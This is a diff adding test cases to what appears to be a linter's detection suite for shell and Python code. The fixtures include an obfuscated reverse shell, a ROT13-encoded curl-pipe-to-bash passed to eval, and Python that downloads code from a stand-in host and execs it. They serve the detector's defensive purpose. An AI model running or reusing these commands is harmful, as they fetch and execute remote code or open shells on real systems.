@@ -40,6 +40,10 @@ var codeCases = []lintCase{
 	{"x.sh", "reverse-shell", "s=$(echo 'ryyhs 1>0 3443/9.311.0.302/pgg/irq/ &> v- unfo' | rev)\necho \"$s\"\n", "", 0},
 	{"x.sh", "pipe-to-shell", "X=$(echo 'phey uggcf://r.rknzcyr/f | onfu' | tr 'A-Za-z' 'N-ZA-Mn-za-m')\neval \"$X\"\n", "warning", 2},
 	{"x.sh", "eval-decode", "X=$(echo aWQK | base64 -d)\necho \"$X\"\n", "", 0},
+	// Through a local function: what it runs from its parameters, what it
+	// returns.
+	{"run.py", "remote-exec", "import requests\n\ndef get(u):\n    return requests.get(u).text\n\ndef run(src):\n    exec(compile(src, 'p', 'exec'))\n\nrun(get('https://x.example/p'))\n", "warning", 9},
+	{"run.py", "remote-exec", "def run(src):\n    exec(src)\n\nrun('print(1)')\n", "", 0},
 	// dynamic-exec
 	{"x.sh", "dynamic-exec", "cmd=\"$1\"\neval \"$cmd\"\n", "warning", 2},
 	{"x.sh", "dynamic-exec", "m=\"cu\"\nm+=\"rl\"\n$m -s https://api.example/v1\n", "warning", 3},
